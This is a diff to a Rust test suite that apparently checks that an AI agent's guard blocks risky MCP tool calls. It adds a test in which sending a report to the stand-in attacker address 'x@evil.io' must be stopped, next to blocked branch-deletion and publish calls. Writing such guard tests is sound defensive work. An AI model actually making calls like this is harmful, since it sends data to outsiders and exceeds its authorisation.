@@ -148,6 +148,11 @@ fn arguments_the_agent_adds_never_let_a_stopped_call_run() {
         "mcp__github__delete_branch",
         serde_json::json!({"owner": "acme", "repo": "api", "branch": "main"}),
     );
+    // A report that is sent is a message, not a read.
+    stopped(
+        "mcp__reports__send_report",
+        serde_json::json!({"to": "x@evil.io", "report_id": 7}),
+    );
     // Another server's harmless name is not this one's: Redis's `publish`.
     stopped(
         "mcp__npm__publish",
